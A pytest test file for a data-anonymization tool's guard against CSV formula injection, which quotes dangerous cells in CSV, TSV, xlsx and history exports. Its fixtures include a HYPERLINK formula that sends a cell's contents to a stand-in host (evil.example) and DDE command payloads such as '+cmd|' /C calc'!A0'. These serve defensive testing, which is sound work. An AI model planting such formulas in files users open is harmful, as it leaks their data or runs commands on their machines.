"""The formula guard on every CSV/TSV privcore writes (OWASP "CSV Injection"), Excel
text kept as text, and privcore reading its own guarded files back unchanged."""

from __future__ import annotations

import contextlib
import csv
import io
import json

import numpy as np
import openpyxl
import pandas as pd
import pytest

from privcore import history
from privcore.cli import main
from privcore.data import guard_formulas, load, save, to_csv_bytes
from privcore.data.writing import unguard_formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"click")'
PIPE = "+cmd|' /C calc'!A0"

# text cell → what the guard writes (hand-made from OWASP's rule)
CASES = {
    HYPERLINK: "'" + HYPERLINK,
    PIPE: "'" + PIPE,
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r'=1+1",  # and after the line break, where a spreadsheet may start a row
    "-": "'-",
    "'=already quoted": "''=already quoted",  # one more quote: reading back is exact
    "-2": "-2",  # plain numbers are not formulas
    "+3.5": "+3.5",
    "-1e-3": "-1e-3",
    "a=b": "a=b",
    "plain text": "plain text",
    "'quoted text": "'quoted text",
}


def test_the_guard_follows_owasp_and_leaves_numbers_alone():
    frame = pd.DataFrame(
        {
            "note": list(CASES),
            "amount": np.arange(len(CASES)) - 5.5,  # negative numbers in a numeric column
            "count": -np.arange(len(CASES)),
        }
    )
    guarded, changed = guard_formulas(frame)
    assert guarded["note"].tolist() == list(CASES.values())
    assert changed == 8
    pd.testing.assert_series_equal(guarded["amount"], frame["amount"])
    pd.testing.assert_series_equal(guarded["count"], frame["count"])
    assert frame["note"].tolist() == list(CASES)  # the input is not changed


def test_column_names_missing_cells_and_mixed_columns():
    frame = pd.DataFrame({"=total": ["=1", None, 5, "x"], "-delta": [1, 2, 3, 4]}, dtype=object)
    frame["-delta"] = frame["-delta"].astype("int64")
    guarded, changed = guard_formulas(frame)
    assert list(guarded.columns) == ["'=total", "'-delta"]
    assert guarded["'=total"].tolist()[0] == "'=1" and pd.isna(guarded["'=total"].iloc[1])
    assert guarded["'=total"].tolist()[2:] == [5, "x"]
    assert changed == 3  # one cell and two names
    categorical = pd.DataFrame({"c": pd.Categorical(["=a", "b", "=a"])})
    assert guard_formulas(categorical)[0]["c"].tolist() == ["'=a", "b", "'=a"]


def test_unguard_inverts_the_guard_exactly():
    frame = pd.DataFrame({"note": [*CASES, "''-2", "'-2"]})
    guarded, _ = guard_formulas(frame)
    back = guarded.copy()
    assert unguard_formulas(back) == 10
    pd.testing.assert_frame_equal(back, frame)


def test_save_guards_csv_and_tsv_and_privcore_reads_them_back(tmp_path):
    frame = pd.DataFrame({"note": [HYPERLINK, "-2", "ok"], "amount": [-1, 2, -3]})
    for name, sep in (("release.csv", ","), ("release.tsv", "\t")):
        saved = save(frame, tmp_path / name)
        assert saved.guarded_cells == 1
        rows = list(csv.reader(io.StringIO((tmp_path / name).read_text("utf-8")), delimiter=sep))
        assert rows == [["note", "amount"], ["'" + HYPERLINK, "-1"], ["-2", "2"], ["ok", "-3"]]
        dataset = load(tmp_path / name)
        pd.testing.assert_frame_equal(dataset.frame, frame, check_dtype=False)
        note = "The formula guard (a ' before =, +, -, @, tab or CR) was removed from 1 cell."
        assert note in dataset.notes
    unguarded = save(frame, tmp_path / "raw.csv", formula_guard=False)
    assert unguarded.guarded_cells == 0
    assert HYPERLINK.replace('"', '""') in (tmp_path / "raw.csv").read_text("utf-8")


def test_page_downloads_are_guarded():
    frame = pd.DataFrame({"note": ["@cmd", "fine"], "n": [-1, 1]})
    assert to_csv_bytes(frame).decode() == "note,n\n'@cmd,-1\nfine,1\n"
    assert to_csv_bytes(frame, formula_guard=False).decode() == "note,n\n@cmd,-1\nfine,1\n"


def test_xlsx_text_is_written_as_text_not_as_a_formula(tmp_path):
    frame = pd.DataFrame({"note": [HYPERLINK, "#N/A", "=1+1", "ok"], "n": [1.5, 2, np.nan, 4]})
    path = save(frame, tmp_path / "release.xlsx").path
    sheet = openpyxl.load_workbook(path).active
    cells = [(c.value, c.data_type) for c in sheet["A"]]
    assert cells == [("note", "s"), (HYPERLINK, "s"), ("#N/A", "s"), ("=1+1", "s"), ("ok", "s")]
    assert [c.value for c in sheet["B"]] == ["n", 1.5, 2, None, 4]
    back = load(path).frame
    assert back["note"].tolist()[0] == HYPERLINK and back["note"].tolist()[2] == "=1+1"


def test_the_history_export_is_guarded():
    history.record_run(
        "measure", params={"k": 2}, results={}, dataset={"name": HYPERLINK, "rows": 3}
    )
    text = history.export_csv()
    row = next(r for r in csv.DictReader(io.StringIO(text)))
    assert row["dataset_name"] == "'" + HYPERLINK
    raw = next(r for r in csv.DictReader(io.StringIO(history.export_csv(formula_guard=False))))
    assert raw["dataset_name"] == HYPERLINK


@pytest.fixture
def formula_table(tmp_path):
    rng = np.random.default_rng(3)
    frame = pd.DataFrame(
        {
            "age": rng.integers(20, 60, 40),
            "disease": rng.choice(["flu", "cold", "ulcer"], 40),
            "note": [HYPERLINK if i % 4 == 0 else f"note {i}" for i in range(40)],
        }
    )
    path = tmp_path / "table.csv"
    frame.to_csv(path, index=False)
    return path


def _anonymize(path, out, *extra):
    return main(
        [
            "anonymize",
            str(path),
            "--qi",
            "age",
            "--sa",
            "disease",
            "--identifiers",
            "",
            "--algorithm",
            "mondrian",
            "--k",
            "4",
            "--out",
            str(out),
            "--quiet",
            *extra,
        ]
    )


def test_cli_release_is_guarded_and_says_so_once(formula_table, tmp_path, capsys):
    out, report = tmp_path / "release.csv", tmp_path / "report.json"
    assert _anonymize(formula_table, out, "--report", str(report)) == 0
    err = capsys.readouterr().err
    assert err == (
        "10 cells starting with =, +, -, @, tab or CR, or with one of them after a line "
        "break, were guarded with ' (formula guard; --no-formula-guard writes them as they "
        "are)\n"
    )
    written = pd.read_csv(out, dtype=str)
    assert (written["note"] == "'" + HYPERLINK).sum() == 10
    assert json.loads(report.read_text("utf-8"))["formula_guarded_cells"] == 10


def test_cli_no_formula_guard_writes_cells_as_they_are(formula_table, tmp_path, capsys):
    out, report = tmp_path / "release.csv", tmp_path / "report.json"
    assert _anonymize(formula_table, out, "--no-formula-guard", "--report", str(report)) == 0
    assert capsys.readouterr().err == ""
    assert (pd.read_csv(out, dtype=str)["note"] == HYPERLINK).sum() == 10
    assert "formula_guarded_cells" not in json.loads(report.read_text("utf-8"))


def test_cli_says_nothing_when_no_cell_changes(tmp_path, capsys):
    path = tmp_path / "table.csv"
    pd.DataFrame({"age": range(20, 40), "disease": ["flu", "cold"] * 10}).to_csv(path, index=False)
    assert _anonymize(path, tmp_path / "release.csv") == 0
    assert capsys.readouterr().err == ""


def test_cli_history_export_guard_and_option(capsys):
    history.record_run("measure", params={}, results={}, dataset={"name": "@SUM(A1)"})
    assert main(["history", "export"]) == 0
    assert "'@SUM(A1)" in capsys.readouterr().out
    assert main(["history", "export", "--no-formula-guard"]) == 0
    out = capsys.readouterr().out
    assert "@SUM(A1)" in out and "'@SUM(A1)" not in out
    help_text = io.StringIO()
    with pytest.raises(SystemExit), contextlib.redirect_stdout(help_text):
        main(["anonymize", "--help"])
    assert "--no-formula-guard" in help_text.getvalue()


def test_arx_hierarchy_export_is_guarded_and_reads_back_the_same():
    from privcore.data import Hierarchy

    rows = [["=1+1", "=group", "*"], ["@x", "=group", "*"], ["-2", "plain", "*"]]
    hierarchy = Hierarchy(rows, name="evil")
    text = hierarchy.to_arx_csv()
    assert text.splitlines() == ["'=1+1;'=group;*", "'@x;'=group;*", "-2;plain;*"]
    again = Hierarchy.read_arx(text.encode("utf-8"), name="evil")
    assert again.to_frame().equals(hierarchy.to_frame())
    assert hierarchy.to_arx_csv(formula_guard=False).splitlines()[0] == "=1+1;=group;*"
